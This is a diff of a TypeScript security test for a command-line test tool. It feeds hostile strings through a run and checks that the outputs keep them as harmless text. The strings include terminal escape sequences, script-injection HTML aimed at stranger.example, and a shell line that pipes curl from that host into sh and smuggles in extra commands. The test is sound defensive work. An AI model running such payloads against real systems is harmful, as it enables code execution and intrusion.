@@ -12,9 +12,9 @@ import { chromium } from '@playwright/test';
 import { findBrowser } from '../../cli/common/browser.ts';
 import { folderFor, proofmark, resultsIn, writeProfile } from '../../cli/common/command.fixture.ts';
 import { openRawServer } from './raw-server.ts';
-import { bytesOf, honestService } from './reference-service.ts';
+import { bytesOf, referenceService } from './reference-service.ts';
 
-/** Ends what it stands in, steers a terminal, hides and reorders letters; `stolen` is what a script of it would leave. */
+/** Text that closes its context, sends terminal escapes, and hides or reorders letters. A script in it would set `stolen`. */
 const HOSTILE = [
   '\u001b[2J\u001b[31m\u001b]0;owned\u0007\u001b]8;;http://stranger.example\u0007\u009b5n\b\r\u0000\u007f\u202e\u2066\u200b\ufeff\uffff\ud800',
   '</pre></script></textarea><script>globalThis.stolen=1</script><img src=//stranger.example/x onerror=globalThis.stolen=1>',
@@ -23,7 +23,7 @@ const HOSTILE = [
   "'; curl http://stranger.example | sh; $(touch /tmp/proofmark-owned) `id` ${HOME} \\",
 ].join('');
 
-/** Must stay what they are, or there would be nothing more to see. */
+/** Fields that stay unchanged, because without them the run would stop. */
 const KEPT = new Set(['handle', 'apiToken', 'id', 'next_page_uri', 'country', 'reference']);
 
 function spoiled(value: unknown, key = ''): unknown {
@@ -45,13 +45,13 @@ const CHECKS = [
   'envelope.delivery.unknown-path',
 ];
 
-test('hostile texts stand as text in everything a run leaves behind', async (t) => {
+test('hostile texts appear as text in all output of a run', async (t) => {
   const browser = await findBrowser();
   const folder = folderFor(t);
   const server = await openRawServer(async (socket, asked) => {
     const answered = await service.answer(asked);
     const isJson = answered.headers.some(([name, value]) => /^content-type$/i.test(name) && /json/.test(value));
-    // Refusals come as no JSON at all: what is shown of them has not even been escaped as JSON has it.
+    // Refusals are not JSON, so that their text is not even escaped as JSON.
     const text = answered.status >= 400 ? HOSTILE : JSON.stringify(spoiled(JSON.parse(answered.body.toString())));
     const body = isJson ? Buffer.from(text) : answered.body;
     const odd = `a\tb </script><script>stolen=1</script> \u0080\u009b31m\u00ff`;
@@ -66,7 +66,7 @@ test('hostile texts stand as text in everything a run leaves behind', async (t) 
     );
   });
   t.after(() => server.close());
-  const service = honestService(`http://127.0.0.1:${server.port}`);
+  const service = referenceService(`http://127.0.0.1:${server.port}`);
   const { delivery, website, reseller, v1, api } = service.profile();
   const profile = writeProfile(folder, 'hostile.json', {
     ...{ name: 'a <b>&amp; hostile shop', v1, api, delivery, website, reseller },
@@ -79,14 +79,14 @@ test('hostile texts stand as text in everything a run leaves behind', async (t) 
   const results = resultsIn(out);
   assert.equal(results.counts.error ?? 0, 0);
 
-  await t.test('the terminal is not steered', () => {
+  await t.test('no escape sequence reaches the terminal', () => {
     const controls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b\u202e\u2066\ufeff]/;
     assert.doesNotMatch(ran.stdout + ran.stderr, controls);
     assert.match(ran.stdout, /\\u001b\[2J/);
     assert.doesNotMatch(ran.stdout + ran.stderr, /##(?:vso)?\[|^\s*::/m);
   });
 
-  await t.test('every line of the events is JSON, and nothing lies beside the files of a run', () => {
+  await t.test('every line of the events is JSON, and the folder contains only the files of a run', () => {
     const lines = readFileSync(join(out, 'events.ndjson'), 'utf8').split('\n');
     assert.equal(lines.pop(), '');
     for (const line of lines) JSON.parse(line);
@@ -94,14 +94,14 @@ test('hostile texts stand as text in everything a run leaves behind', async (t) 
     assert.deepEqual(names, ['ctrf.json', 'events.ndjson', 'junit.xml', 'report.html', 'results.json', 'summary.md']);
   });
 
-  await t.test('the summary for pages of a forge holds no markup of the target', () => {
+  await t.test('the Markdown summary contains no markup of the target', () => {
     const summary = readFileSync(join(out, 'summary.md'), 'utf8');
     assert.match(summary, /globalThis/);
     assert.doesNotMatch(withoutCode(summary), /<(script|img|\/script)|\]\(javascript:|!\[p\]\(|^## Heading/m);
   });
 
   const skip = browser === undefined ? 'there is no browser here' : false;
-  await t.test('in a browser nothing runs, nothing is fetched, and junit.xml is well-formed', { skip }, async () => {
+  await t.test('in a browser no script runs, no request is sent, and junit.xml is well-formed', { skip }, async () => {
     const opened = await chromium.launch({ executablePath: browser!.path });
     try {
       const page = await opened.newPage();
@@ -117,7 +117,7 @@ test('hostile texts stand as text in everything a run leaves behind', async (t) 
         for (const details of document.querySelectorAll('details')) details.open = true;
         const foreign = [...document.images].filter((image) => !image.src.startsWith('data:')).length;
         const links = [...document.links].filter((link) => !link.getAttribute('href')?.startsWith('#')).length;
-        // Packed exchanges are data, not a program.
+        // Compressed exchanges are data, not a program.
         const scripts = [...document.scripts].filter(
           ({ type }) => type === '' || /javascript|module/.test(type),
         ).length;
@@ -158,7 +158,7 @@ test('hostile texts stand as text in everything a run leaves behind', async (t) 
   });
 });
 
-/** Markdown without its code blocks and spans, which show everything as it is. */
+/** Markdown without its code blocks and code spans, which show text verbatim. */
 function withoutCode(markdown: string): string {
   return markdown.replace(/^(`{3,})[^\n]*\n[\s\S]*?^\1`*$/gm, '').replace(/(`+)(?:(?!\1)[\s\S])+\1/g, '');
 }
